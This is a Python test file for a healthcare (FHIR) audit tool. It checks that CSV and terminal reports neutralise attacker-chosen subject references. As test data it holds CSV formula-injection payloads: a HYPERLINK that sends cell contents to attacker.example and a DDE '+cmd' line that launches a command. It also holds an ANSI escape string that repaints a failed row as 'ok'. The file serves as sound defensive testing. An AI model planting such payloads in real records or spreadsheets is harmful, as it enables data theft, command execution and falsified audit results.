"""Finding 11 (round two): `alliance audit` printed values from the records as they were. A
subject reference chosen by whoever can write to the FHIR server ran as a formula in the CSV
(`=HYPERLINK(...)`, `+cmd`) or, with ANSI escapes and CR, repainted a FAIL row as "ok" in the
terminal. Both outputs must show the value inert."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from plugin.audit.report import format_table, write_csv
from plugin.audit.verify import RecordAuditor
from plugin.fhir.client import FhirClient
from tests.support.memory_fhir import MemoryFhir

PAINT_OK = "\x1b[2K\rok    QuestionnaireResponse/q1  Patient/1  score  3 score(s) match\x1b[8m"
FORMULAS = ['=HYPERLINK("https://attacker.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def findings_for(subject: str) -> list:
    """What the auditor reports for a response with this subject (it fails: no Questionnaire
    can score it), the way `alliance audit --fhir` would."""
    server = MemoryFhir()
    auditor = RecordAuditor(FhirClient(server.base, http=server.session, retries=0))
    response = {"resourceType": "QuestionnaireResponse", "id": "q1", "status": "completed",
                "questionnaire": "https://nowhere.example/Questionnaire/x|1",
                "subject": {"reference": subject}}
    return auditor.audit_response(response)


def test_control_characters_cannot_repaint_a_failed_row() -> None:
    table = format_table(findings_for(PAINT_OK))
    assert "\x1b" not in table and "\r" not in table
    rows = [line for line in table.splitlines() if "QuestionnaireResponse/q1" in line]
    assert rows and all(line.startswith(("FAIL", "ok")) for line in rows)
    assert any(line.startswith("FAIL") and "\\x1b[2K\\rok" in line for line in rows)


@pytest.mark.parametrize("subject", FORMULAS)
def test_no_csv_cell_is_a_formula(tmp_path: Path, subject: str) -> None:
    out = tmp_path / "report.csv"
    write_csv(findings_for(subject), out)
    with open(out, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{subject}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
